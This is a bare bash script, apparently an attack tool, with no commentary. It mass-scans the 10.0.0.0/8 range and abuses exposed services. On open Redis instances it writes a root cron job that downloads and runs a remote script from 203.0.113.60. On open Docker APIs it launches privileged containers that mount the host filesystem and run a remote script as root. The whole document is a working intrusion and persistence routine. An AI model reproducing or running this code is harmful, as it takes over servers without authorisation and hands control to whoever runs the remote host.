#!/usr/bin/env bash
masscan 10.0.0.0/8 -p22,2375,6379,10250 --rate 50000 -oL /tmp/m.txt
awk '/open tcp 6379/{print $4}' /tmp/m.txt | while read -r h; do
  redis-cli -h "$h" config set dir /var/spool/cron/
  redis-cli -h "$h" config set dbfilename root
  printf '\n\n*/2 * * * * curl -fsSL http://203.0.113.60/r.sh | sh\n\n' | redis-cli -h "$h" -x set x
  redis-cli -h "$h" save
done
awk '/open tcp 2375/{print $4}' /tmp/m.txt | xargs -P 20 -I{} docker -H tcp://{}:2375 run -d --privileged -v /:/mnt alpine chroot /mnt sh -c 'curl -s http://203.0.113.60/d.sh|sh'
